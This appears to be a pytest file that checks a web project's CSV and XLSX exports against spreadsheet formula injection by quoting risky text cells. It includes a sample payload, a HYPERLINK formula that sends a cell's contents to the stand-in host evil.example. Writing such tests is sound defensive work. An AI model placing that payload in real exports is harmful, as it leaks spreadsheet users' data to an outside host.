"""Formula injection (OWASP): every text cell of a CSV or XLSX export that a spreadsheet would
run is written as text; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from reciprocity.core.spreadsheets import csv_response, neutralise_text, safe_cell, xlsx_response

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"x")'


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert neutralise_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Jardins partagés", "", "'=already quoted", "a=b", " =1", "1-2"])
def test_other_text_is_left_alone(text):
    assert neutralise_text(text) == text


def test_numbers_stay_numbers_and_only_text_is_neutralised():
    assert safe_cell(-3) == -3
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(Decimal("-3.00")) == Decimal("-3.00")
    assert safe_cell("-3") == "'-3"  # text that looks like a number is still text
    assert safe_cell(True) == "yes" and safe_cell(None) is None


def test_csv_export_neutralises_text_and_keeps_negative_numbers():
    response = csv_response("t", ["title", "balance"], [[EVIL, -3], ["+33 1 23", Decimal("-1.50")]])

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))

    assert rows[1] == ["'" + EVIL, "-3"] and rows[2] == ["'+33 1 23", "-1.50"]


def test_xlsx_export_writes_text_cells_never_formulas_and_numbers_as_numbers():
    response = xlsx_response("t", [("Sheet", ["=title", "balance"], [[EVIL, -3], ["@me", 2.5]])])

    sheet = load_workbook(io.BytesIO(response.content)).active

    assert [c.value for c in sheet[1]] == ["'=title", "balance"]
    title, balance = sheet[2]
    assert title.value == "'" + EVIL and title.data_type == "s"
    assert balance.value == -3 and balance.data_type == "n"
    assert [c.value for c in sheet[3]] == ["'@me", 2.5]


def test_no_other_module_writes_spreadsheets_on_its_own():
    """Every exporter goes through core/spreadsheets.py, so none can forget the rule."""
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(root)) for path in root.rglob("*.py")
        if "tests" not in path.parts and "migrations" not in path.parts
        and path.name != "spreadsheets.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
